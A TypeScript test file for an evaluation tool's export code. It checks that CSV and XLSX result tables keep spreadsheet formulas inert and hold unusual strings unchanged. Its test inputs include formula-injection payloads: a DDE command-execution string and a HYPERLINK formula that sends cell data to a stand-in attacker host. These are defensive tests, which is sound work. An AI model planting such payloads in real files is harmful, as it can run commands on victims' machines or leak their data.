/** Tables of results in the hands of a spreadsheet: whatever a model or a data set says is text there, and nothing computes or breaks the file. */
import Papa from 'papaparse'
import { readSheet } from 'read-excel-file/node'
import { expect, test } from 'vitest'
import fc from '../../builders/properties'
import type { ResultRow } from '../../../app/metrics/result'
import { tableOf } from '../../../main/evaluation/table'
import { openZip } from '../../../main/collections/zip'
import { testFolder } from '../../builders/folder'
import { put } from '../../builders/traces'

const formulas = [
  `=cmd|'/c calc'!A1`,
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '＝1+1',
  '==1',
]
const odd = [
  '\u0001',
  '\ud800',
  '\ufffe',
  '<b>&amp;</b>',
  ']]>',
  '_x0041_',
  'a'.repeat(40_000),
  '__proto__',
  'constructor',
  '',
]

function rowOf(text: string, column = 'note'): ResultRow {
  return {
    item: {
      id: text,
      position: 0,
      question: text,
      answer: text,
      options: { A: text },
      category: text,
      fields: { [column]: text },
    },
    asked: text,
    response: text,
    prediction: text,
    judgement: { state: 'undecided', score: 0, taken: text, rule: text },
    looks: [],
    attempts: 1,
    ms: 1,
    tokens: 1,
  } as ResultRow
}

async function csvOf(rows: readonly ResultRow[]): Promise<string[][]> {
  const text = Buffer.from(await tableOf(rows, 'csv')).toString('utf8')
  return Papa.parse<string[]>(text).data
}

/** What Excel, LibreOffice and Google Sheets compute: blanks and line ends before the sign count for nothing. */
const computes = /^\s*[=＝+\-@＋－＠]/

test.each(formulas)('%j is text in a CSV, as a cell and as the name of a column', async (text) => {
  for (const line of await csvOf([rowOf(text, `${text}c`)]))
    for (const cell of line)
      expect(computes.test(cell) && !/^-?\d/.test(cell), JSON.stringify(cell)).toBe(false)
})

test('numbers below zero stay numbers', async () => {
  const [, row = []] = await csvOf([rowOf('-0.5'), rowOf('-12 %')])
  expect(row).toContain('-0.5')
})

test('a spreadsheet of any texts opens, has no formula, and holds what was said', async () => {
  const words = ['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty']
  const text = fc.oneof(
    fc.constantFrom(...formulas, ...odd, ...words),
    fc.string({ unit: 'binary', maxLength: 20 }),
  )
  await fc.assert(
    fc.asyncProperty(text, text, async (said, column) => {
      const bytes = Buffer.from(await tableOf([rowOf(said, column)], 'xlsx'))
      const zip = await openZip(put(testFolder(), 'a.xlsx', bytes))
      const sheet = (await zip.read('xl/worksheets/sheet1.xml')).toString('utf8')
      expect(sheet).not.toMatch(/<f[\s>]/)
      const [head = [], row = []] = await readSheet(bytes, { trim: false })
      expect(head).toContain('prediction')
      expect(row.length).toBeLessThanOrEqual(head.length)
      if (words.includes(said)) expect(row).toContain(`${said} `)
      if (formulas.includes(said) && !/[\r\n]/.test(said)) expect(row).toContain(said)
    }),
    { numRuns: 150 },
  )
})
